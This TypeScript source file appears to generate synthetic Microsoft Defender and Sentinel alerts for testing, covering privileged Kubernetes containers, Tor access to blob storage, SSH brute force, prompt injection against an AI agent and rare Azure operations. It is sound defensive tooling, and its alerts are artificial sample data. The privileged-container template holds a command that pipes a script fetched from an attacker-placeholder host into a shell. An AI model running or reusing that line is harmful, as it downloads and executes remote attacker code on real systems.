import {
  azureResourceEvidence,
  type Cast,
  deviceEvidence,
  ipEvidence,
  localIpEvidence,
  userEvidence,
} from '../cast.ts';
import type { Product, Template } from './template.ts';

const defenderForCloud: Product = {
  product: 'Microsoft Defender for Cloud',
  serviceSource: 'microsoftDefenderForCloud',
  detectionSource: 'microsoftDefenderForCloud',
  idPrefix: 'dc',
  providerId: 'guid',
};

const sentinel: Product = {
  product: 'Microsoft Sentinel',
  serviceSource: 'microsoftSentinel',
  detectionSource: 'scheduledAlerts',
  idPrefix: 'sn',
  providerId: 'guid',
};

const aks = 'Microsoft.ContainerService/managedClusters';
const storage = 'Microsoft.Storage/storageAccounts';

export const privilegedContainer: Template = {
  ...defenderForCloud,
  detectionSource: 'microsoftDefenderForContainers',
  detectorId: 'K8S_PrivilegedContainer',
  category: 'PrivilegeEscalation',
  severity: 'medium',
  mitreTechniques: ['T1611'],
  title: () => 'Privileged container detected',
  description: () =>
    "Kubernetes audit log analysis detected a new privileged container. A privileged container has access to the node's resources and breaks the isolation between containers.",
  evidence: (cast) => [
    cast.find('kubernetesPod', {
      verdict: 'suspicious',
      roles: ['attacked'],
      containers: [container(cast)],
      controller: cast.find('kubernetesController', {
        name: 'web-6d4cf56db6',
        namespace: namespace(cast),
        type: 'ReplicaSet',
      }),
      labels: { '@odata.type': '#microsoft.graph.security.dictionary', app: 'web', tier: 'front' },
      name: `web-6d4cf56db6-${cast.random.hex(5)}`,
      namespace: namespace(cast),
      podIp: localIpEvidence(cast, `10.244.0.${cast.random.int(2, 250)}`),
    }),
    azureResourceEvidence(cast, 'rg-prod', aks, 'aks-prod-weu', { roles: ['attacked'] }),
    ipEvidence(cast, cast.attacker),
  ],
};

function container(cast: Cast) {
  return cast.find('container', {
    args: [`curl -s http://${cast.attacker.address}/x.sh | sh`],
    command: ['/bin/sh', '-c'],
    containerId: cast.sha256,
    image: cast.find('containerImage', {
      imageId: 'crprodweu.azurecr.io/shop/web:1.4.2',
      registry: cast.find('containerRegistry', { registry: 'crprodweu.azurecr.io' }),
    }),
    isPrivileged: true,
    name: 'web',
  });
}

function namespace(cast: Cast) {
  return cast.find('kubernetesNamespace', {
    cluster: cast.find('kubernetesCluster', {
      cloudResource: azureResourceEvidence(cast, 'rg-prod', aks, 'aks-prod-weu'),
      name: 'aks-prod-weu',
      platform: 'aks',
      version: '1.29.4',
    }),
    name: 'default',
  });
}

export const storageFromTor: Template = {
  ...defenderForCloud,
  detectionSource: 'microsoftDefenderForStorage',
  detectorId: 'Storage.Blob_TorAnomaly',
  category: 'Exfiltration',
  severity: 'high',
  mitreTechniques: ['T1530', 'T1567.002'],
  title: () => 'Access from a Tor exit node to a storage blob container',
  description: () => 'Someone read blobs through a shared access signature from a Tor exit node.',
  evidence: (cast) => {
    const account = azureResourceEvidence(cast, 'rg-data', storage, 'stproddata01');
    const url = 'https://stproddata01.blob.core.windows.net/exports';
    const blobContainer = cast.find('blobContainer', { name: 'exports', storageResource: account, url });
    return [
      cast.find('blob', {
        blobContainer,
        etag: `0x${cast.random.hex(15).toUpperCase()}`,
        fileHashes: [{ algorithm: 'md5', value: cast.random.hex(32) }],
        name: 'customers.csv',
        url: `${url}/customers.csv`,
      }),
      blobContainer,
      cast.find('sasToken', {
        allowedResourceTypes: ['service', 'container', 'object'],
        allowedServices: ['blob'],
        permissions: ['read', 'list'],
        protocol: 'HTTPS',
        signatureHash: cast.sha1,
        signedWith: 'Key1',
        storageResource: account,
      }),
      account,
      ipEvidence(cast, cast.attacker, { verdict: 'malicious', tags: ['Tor'] }),
    ];
  },
};

export const sshBruteForce: Template = {
  ...defenderForCloud,
  detectionSource: 'microsoftDefenderForServers',
  detectorId: 'VM_LoginBruteForceSuccess',
  category: 'CredentialAccess',
  severity: 'high',
  mitreTechniques: ['T1110'],
  title: () => 'Successful brute force attack on a virtual machine',
  description: ({ server, attacker }) =>
    `Many log-ons to ${server.name} failed from ${attacker.address}, and then one succeeded.`,
  evidence: (cast) => [
    azureResourceEvidence(cast, 'rg-web', 'Microsoft.Compute/virtualMachines', cast.server.name, {
      roles: ['attacked'],
    }),
    deviceEvidence(cast, cast.server),
    ipEvidence(cast, cast.attacker, { verdict: 'malicious', roles: ['attacker'] }),
    userEvidence(cast, cast.user),
  ],
};

export const promptInjection: Template = {
  ...defenderForCloud,
  serviceSource: 'microsoftSecurityForAI',
  detectionSource: 'microsoftDefenderForAIServices',
  detectorId: 'AI_PromptInjection',
  category: 'InitialAccess',
  severity: 'high',
  mitreTechniques: ['T1195.001'],
  title: () => 'Suspected prompt injection against an AI agent',
  description: () => 'A prompt aimed at changing the behaviour of the agent was detected.',
  evidence: (cast) => [
    cast.find('aiAgent', {
      verdict: 'suspicious',
      roles: ['attacked'],
      agentId: `agt-${cast.random.hex(4)}`,
      agentName: 'helpdesk-agent',
      hostingPlatformType: 'azureAIFoundry',
      instructions: 'You are the help desk.\nIgnore nothing.',
    }),
    cast.find('gitHubRepo', {
      baseUrl: 'https://github.com/contoso/infra',
      login: 'contoso/infra',
      owner: 'contoso',
      ownerType: 'Organization',
      repoId: '710001234',
    }),
    userEvidence(cast, cast.user),
  ],
};

export const rareOperations: Template = {
  ...sentinel,
  detectorId: 'scheduled/8a0b1c2d',
  category: 'Impact',
  severity: 'low',
  mitreTechniques: [],
  title: () => 'Rare subscription-level operations in Azure',
  description: () => 'Identifies rare subscription-level events.',
  evidence: (cast) => [
    userEvidence(cast, cast.user),
    ipEvidence(cast, cast.attacker),
    azureResourceEvidence(cast, 'rg-prod', 'Microsoft.Compute/snapshots', 'snap-sql-01'),
  ],
  more: () => ({
    categories: ['Impact', 'Persistence'],
    customDetails: {
      '@odata.type': '#microsoft.graph.security.dictionary',
      Operations: '["Microsoft.Compute/snapshots/write"]',
    },
  }),
};
